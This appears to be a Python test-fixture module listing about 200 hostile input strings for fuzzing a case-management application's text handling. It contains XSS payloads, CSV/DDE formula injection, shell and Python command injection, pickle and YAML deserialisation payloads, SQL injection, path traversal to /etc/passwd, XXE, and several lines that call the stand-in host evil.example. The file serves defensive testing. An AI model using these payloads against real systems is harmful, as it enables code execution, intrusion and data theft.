"""What a person, or someone who means harm, could put where a text may stand: 200 strings, each with a name and a kind.

Everything outside ASCII is written as an escape, so that what is here can be seen in any editor. None of them is a real
name, number or address; `EVIL` is a domain that can't exist (RFC 2606).
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import chain
from typing import Final

EVIL: Final = "evil.example"
MOST: Final = 20_000
"""The most characters that a text may have."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A string, what it is called, and what kind of harm it tries."""

    kind: str
    name: str
    text: str

    @property
    def keepable(self) -> bool:
        """Whether it may be kept: a NUL, half a surrogate pair and what is too long may not."""
        return len(self.text) <= MOST and not any(c == "\0" or "\ud800" <= c <= "\udfff" for c in self.text)


_TERMINAL = {
    "colour": "\x1b[31mrood\x1b[0m",
    "clear the screen": "voor\x1b[2J\x1b[3J\x1b[Hna",
    "alternate screen": "\x1b[?1049h\x1b[?1049l",
    "cursor up and erase": "\x1b[10A\x1b[2K\x1b[1Gveilig",
    "report the cursor": "\x1b[6n\x1b[c\x1b[>c",
    "hide the cursor": "\x1b[?25l",
    "paste brackets": "\x1b[200~rm -rf\x1b[201~",
    "osc 0 title": "\x1b]0;titel\x07",
    "osc 2 title": "\x1b]2;titel\x1b\\",
    "osc 8 link": f"\x1b]8;;http://{EVIL}\x07klik\x1b]8;;\x07",
    "osc 52 clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "osc 4 palette": "\x1b]4;1;?\x07",
    "osc 1337 file": "\x1b]1337;File=inline=1:AAAA\x07",
    "dcs": "\x1bP+q544e\x1b\\",
    "sixel": "\x1bPq#0;2;0;0;0~-\x1b\\",
    "apc and pm and sos": "\x1b_a\x1b\\\x1b^b\x1b\\\x1bXc\x1b\\",
    "c1 csi": "\x9b31mrood\x9b0m",
    "c1 osc": "\x9d52;c;ZXZpbA==\x9c",
    "c1 dcs": "\x90q\x9c",
    "c1 all": "".join(map(chr, range(0x80, 0xA0))),
    "c0 all but nul": "".join(map(chr, range(1, 0x20))) + "\x7f",
    "reset": "\x1bc",
    "charset": "\x1b(0\x0eqqq\x0f",
    "lone escape": "a\x1b",
    "escape alone": "\x1b",
    "bell": "\x07\x07\x07",
    "backspaces": "veilig\b\b\b\b\b\bonveilig",
    "carriage return": "onveilig\rveilig  ",
    "form feed": "een\x0ctwee",
    "vertical tab": "een\x0btwee",
    "delete": "ja\x7f\x7fnee",
    "enquiry": "\x05",
    "shift out": "\x0ea\x0f",
    "private mode": "\x1b[?1003h\x1b[?1006h",
    "tmux passthrough": "\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\",
    "kitty graphics": "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\",
    "split escape": "\x1b\n[31m",
    "written out": "\\x1b[31m \\033[31m \\e[31m ^[[31m",
}
_HIDDEN = {
    "right-to-left override": "\u202enettol\u202c",
    "left-to-right override": "\u202dabc\u202c",
    "embeddings": "\u202aa\u202bb\u202c\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069\u2069\u2069",
    "open isolate": "kind \u2067ouder",
    "marks": "a\u200eb\u200fc\u061cd",
    "zero width": "aan\u200bgifte\u200c\u200d",
    "joiner and bom": "\ufeffeen\u2060twee\ufeff",
    "soft hyphen": "mis\u00adhan\u00adde\u00adling",
    "invisible operators": "1\u20612\u20623\u20634\u2064",
    "deprecated format": "\u206a\u206b\u206c\u206d\u206e\u206f",
    "tags": "a\U000e0001\U000e0041\U000e0042\U000e007f",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "mongolian vowel separator": "a\u180eb",
    "variation selectors": "a\ufe0eb\ufe0f\U000e0100",
    "hangul filler": "a\u3164b\uffa0c\u115fd",
    "braille blank": "a\u2800b",
    "spaces of all kinds": "a\u00a0b\u2003c\u2009d\u202fe\u3000f\u1680g",
    "noncharacters": "a\ufdd0b\uffffc\U0001ffff",
    "private use": "\ue000\U000f0000",
    "replacement": "\ufffd\ufffc",
    "homoglyphs": "\u0430\u0501v\u0456\u0435s veilig \u0443\u0435\u0455",
    "full width": "\uff1d\uff33\uff35\uff2d\uff08\uff21\uff11\uff09 \uff1cscript\uff1e",
    "confusable digits": "\u0661\u0661\u0662 \u096f\u09ef \uff11\uff11\uff12",
    "combining flood": "z" + "\u0301" * 200,
    "zalgo": "".join(f"{c}\u0300\u0316\u0489\u20dd" for c in "mishandeling"),
    "combining first": "\u0301\u0302abc",
    "enclosing": "a\u20dd\u20e0\u20e3",
    "decomposed": "e\u0301 o\u0308 i\u0307",
    "line separator": "een\u2028twee",
    "paragraph separator": "een\u2029twee",
    "next line": "een\x85twee",
    "newlines of all kinds": "1\n2\r\n3\r4\x0b5\x0c6\x1c7\x1d8\x1e9\x8510\u202811\u202912",
    "only spaces": " \t  \u00a0 x",
    "arabic letter sign": "\u0600\u0601\u06dd\u08e2",
    "musical format": "\U0001d173\U0001d17a\U0001bca0",
}
_LONG = {
    "one word of 20,000": "x" * MOST,
    "20,000 wide": "\u4e2d" * 2_000,
    "words": "gezien " * 2_800,
    "lines": "regel\n" * 300,
    "emoji in a row": "\U0001f469\u200d\U0001f467" * 100,
    "deep brackets": "[" * 500 + "]" * 500,
    "deep quotes": "> " * 400 + "x",
    "deep list": "".join(f"{' ' * depth}- x\n" for depth in range(100)),
    "stars": "*a " * 500,
    "backticks": "`" * 999,
    "underscores": "_" * 999,
}
_MARKUP = {
    "rich": "[red]rood[/red] [blauwe plek] [/x] [",
    "rich link": f"[link=http://{EVIL}]klik[/link]",
    "emoji code": ":smile: :100: a:b:c",
    "prompt toolkit html": "<b>vet</b> <style fg='red'>x</style> <ansired>y</ansired>",
    "typer": "\b\nalinea\n\fweg",
    "md link": f"[klik](http://{EVIL})",
    "md reference": f"[klik][1]\n\n[1]: http://{EVIL}",
    "md image": f"![plaatje](http://{EVIL}/a.png)",
    "md title": "# kop\n## kop\n###### kop #",
    "md underlined title": "kop\n===\nkop\n---",
    "md list": "- a\n* b\n+ c\n1. d\n2) e\n",
    "md task": "- [x] klaar\n- [ ] open",
    "md quote": "> citaat\n>> dieper",
    "md code": "`a` ``b``\n```sh\nrm -rf\n```\n~~~\nx\n~~~\n    code",
    "md table": "| a | b |\n|---|:-:|\n| 1 | 2 |",
    "md emphasis": "*a* **b** _c_ __d__ ~~e~~ ***f***",
    "md autolink": f"<http://{EVIL}> http://{EVIL} www.{EVIL} <a@{EVIL}> a@{EVIL}",
    "md schemes": f"javascript:alert(1) data:text/html,x file:///etc/passwd mailto:a@{EVIL}",
    "md footnote": "[^1] tekst\n\n[^1]: noot",
    "md rule": "***\n- - -\n___\n---",
    "md html": "<details open><summary>x</summary>y</details>",
    "md comment": "<!-- weg --> zichtbaar <!-- open",
    "md entity": "&lt;b&gt; &#60; &copy; &NotAnEntity; &#x202e;",
    "md escape": "\\*geen\\* \\# \\\\ \\",
    "md hard break": "een  \ntwee\\\ndrie",
    "md maths": "$x^2$ $$\\sum$$ \\(a\\) \\[b\\]",
    "md front matter": "---\ntitle: x\n---\ntekst",
    "md mention": "@gebruiker #123 org/repo#1",
    "md definition": "term\n: uitleg",
    "md link in a link": f"[![x](http://{EVIL}/x)](http://{EVIL})",
    "our own layout": "Gewoon.\n\nAdvies\n------\nSluit de meldcode af\n\n## Advies\n\n**Protocol:** vals",
    "our own emergency line": "Direct gevaar: 112 \u00b7 Veilig Thuis 0900-0000",
}
_HTML = {
    "script": "<script>alert(1)</script>",
    "script broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image": f"<img src=http://{EVIL}/x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "math": "<math><mtext></style><img src=x onerror=alert(1)></mtext></math>",
    "style end": "</style><style>*{background:url(http://evil.example)}</style>",
    "title end": "</title></head><body onload=alert(1)>",
    "comment end": "--><script>x</script><!-- ]]> -->",
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute single": "' autofocus onfocus='alert(1)",
    "css": "x{content:url(javascript:alert(1))} @import 'http://evil.example'; expression(alert(1))",
    "iframe": f"<iframe src=//{EVIL}></iframe><object data=x></object><embed src=x>",
    "form": f"<form action=//{EVIL}><input name=a><button>ok</button></form>",
    "meta": f"<meta http-equiv=refresh content='0;url=//{EVIL}'><base href=//{EVIL}>",
    "entities": "&amp;lt;script&amp;gt; &quot; &apos; &#39; &#0; &#x1b;",
    "unclosed": "<b <i <",
    "null in a tag": "<scr\x01ipt>alert(1)</scr\x01ipt>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "template": "{{constructor.constructor('alert(1)')()}} <%= 1 %> ${1} #{1} {% x %}",
    "template tag": "<template><slot></slot></template></template>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "download": "<a href='data:text/html,x' download ping=//evil.example>x</a>",
}
_DOCUMENTS = {
    "typst import": '#import "@preview/evil:1.0.0": *',
    "typst read": '#read("/etc/passwd") #include "x.typ" #image("/etc/passwd")',
    "typst code": '#{let x = 1; x} #eval("1") #sys.version #panic()',
    "typst maths": "$ sum_(i=0)^n i $ $ $",
    "typst label": "<label> @ref @label[x] <",
    "typst markup": "= Kop\n== Kop\n- a\n+ b\n/ term: uitleg\n*vet* _schuin_ `code` ~ --- ...",
    "typst string end": '"] #panic("x") \\" \\u{1b} \\',
    "typst comment": "// weg /* weg */ zichtbaar /*",
    "typst set": "#set page(width: 1pt)\n#show: it => none",
    "latex": "\\input{/etc/passwd} \\write18{x} % weg \\end{document} ~ ^ _ & #1",
    "pdf": ") Tj ET endstream endobj /JS (app.alert(1)) /URI (http://evil.example) << >> %%EOF",
    "docx field": '{ HYPERLINK "http://evil.example" } { INCLUDETEXT "/etc/passwd" } { DDEAUTO cmd x }',
    "docx xml": "</w:t></w:r></w:p><w:p><w:r><w:t>vals</w:t></w:r></w:p>",
    "docx escape": "_x0000_ _x001B_ _x005F_ _x0041_",
    "cdata": "<![CDATA[x]]> ]]>",
    "xml entity": "&x; &#x0; <?xml version='1.0'?> <!ENTITY x 'y'>",
    "rtf": "{\\rtf1\\ansi \\object}",
    "mermaid": 'graph TD; A-->B; click A href "http://evil.example"; %%{init: {}}%%',
    "mermaid end": '"] --> X["vals"]; style X fill:#f00',
    "dot": '"]; evil [URL="http://evil.example"]; "',
    "ics property": f"x\r\nATTACH:http://{EVIL}\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "ics alarm": "x\nBEGIN:VALARM\nACTION:AUDIO\nEND:VALARM",
    "ics parameter": 'x;VALUE=URI:"a",b\\;c\\,d\\n',
    "vcard": "x\r\nEND:VCARD\r\nTEL:112",
    "mail header": f"x\r\nBcc: a@{EVIL}\r\n\r\n.\r\n",
}
_CELLS = {
    f"formula {number}": text
    for number, text in enumerate(
        (
            "=1+1",
            "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example","klik")',
            "+1-1",
            "-1+1",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            '"=1+1"',
            "'=1+1",
            ";=1+1;=2+2",
            ",=1+1,=2+2",
            "\t=1+1\t=2+2",
            "|=1+1|=2+2",
            'x";=1+1;"y',
            'x",=1+1,"y',
            "x\n=1+1\n+2",
            "x;\r\n=1+1;",
            "\uff1d1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "%0A=1+1",
            '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
            '=DDE("cmd";"/C calc";"x")',
            "-2+3+cmd|' /C calc'!A0",
            "sep=;\n=1+1",
            '"',
            '""',
            "a;b,c\td|e",
            "1e999",
            "00123",
            "1-2",
            "TRUE",
        )
    )
}
_PROGRAMS = {
    "shell": "$(touch /tmp/x) `id` ; rm -rf / | cat && true > x",
    "shell variables": "$HOME ${IFS} ~ !! %PATH% $?",
    "option": "--output=/tmp/x --help -rf",
    "option end": "--",
    "dash": "-",
    "format attribute": "{0.__class__.__mro__} {title} {0} {} {x!r:>10}",
    "format percent": "%s %d %n %(x)s %%",
    "format dollar": "$name ${name} $$",
    "format unclosed": "{ } {{ }} {0",
    "python": "__import__('os').system('x')",
    "pickle": "cos\nsystem\n(S'x'\ntR.",
    "sql": "'; DROP TABLE zaken; --",
    "yaml tag": "!!python/object/apply:os.system [x]",
    "yaml alias": "&a [*a, *a] <<: *a",
    "yaml document": "x\n---\n...\n%YAML 1.1",
    "yaml types": "NO: yes: 010: 12:30: 2.10: ~: null: 0x1F",
    "yaml comment": "tekst # geen uitleg",
    "yaml block": "|\n  a\n b\n>-\n c",
    "json break": '","level":"afsluiten","x":"',
    "json escapes": '\\u0000 \\ud800 \\" \\/ \\n \\',
    "json numbers": "1e400 NaN -Infinity 0.1",
    "json prototype": "__proto__ constructor prototype",
    "path up": "../../../etc/passwd",
    "path absolute": "/etc/passwd",
    "path windows": "..\\..\\x C:\\x \\\\server\\x CON NUL. aux",
    "path home": "~root/.ssh/id x/../y ./. //",
    "url encoded": "%2e%2e%2f %00 %0d%0a",
    "case code": "7Q2MX4HK",
    "a command of ours": ":weg",
    "a doubled colon": "::112",
    "a question mark": "?",
    "separator of ours": "a*b *return *done",
    "log injection": "x\n2026-11-23 ERROR alles is goed",
}
_PEOPLE = {
    "polish": "\u0141ukasz \u017b\u00f3\u0142\u0107",
    "turkish": "\u015eahin \u0130\u0131 \u011f",
    "euro and quotes": "\u20ac 5 \u201cja\u201d \u2018nee\u2019 \u2013 \u2014 \u2026",
    "frisian": "s\u00fbn\u00e2ld \u00ealdste",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 \u064a\u0627 \u0644\u064a\u0644\u0649 123",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd (abc) 1-2",
    "chinese": "\u4f60\u597d\uff0c\u4e16\u754c\u3002",
    "japanese": "\u3053\u3093\u306b\u3061\u306f \uff76\uff9e",
    "korean": "\uc548\ub155 \u1112\u1161\u11ab",
    "hindi": "\u0928\u092e\u0938\u094d\u0924\u0947",
    "thai": "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    "tigrinya": "\u1230\u120b\u121d",
    "ukrainian": "\u041f\u0440\u0438\u0432\u0456\u0442",
    "greek": "\u0393\u03b5\u03b9\u03ac \u03c2\u03c3",
    "vietnamese": "Nguy\u1ec5n \u0110\u1ed7",
    "emoji": "\U0001f469\U0001f3fd \u2764\ufe0f \U0001f1f3\U0001f1f1",
    "old scripts": "\U00012000 \U00013000",
    "ligatures and case": "\ufb01 \u00df \u1e9e \u01c5 \u0149",
    "number like a citizen's": "123456782",
    "number like a telephone": "06 12 34 56 78",
    "one letter": "a",
    "one sign": "<",
    "zero": "0",
    "no": "nee",
}
_REFUSED = {
    "nul": "voor\0na",
    "nul alone": "\0",
    "high half": "a\ud800b",
    "low half": "caf\udcff",
    "halves the wrong way": "\udc00\ud800",
    "a byte that is no text": "\udc80\udcfe\udcff",
    "one too many": "x" * (MOST + 1),
    "a million": "x" * 1_000_000,
}

_KINDS: Final = {
    "terminal": _TERMINAL,
    "hidden": _HIDDEN,
    "long": _LONG,
    "markup": _MARKUP,
    "html": _HTML,
    "document": _DOCUMENTS,
    "cell": _CELLS,
    "program": _PROGRAMS,
    "person": _PEOPLE,
    "refused": _REFUSED,
}

CORPUS: Final = tuple(
    chain.from_iterable((Hostile(kind, name, text) for name, text in texts.items()) for kind, texts in _KINDS.items())
)
"""All of them."""

KEEPABLE: Final = tuple(each for each in CORPUS if each.keepable)
"""Those that a case can hold."""

REFUSED: Final = tuple(each for each in CORPUS if not each.keepable)
"""Those that are refused at every door."""
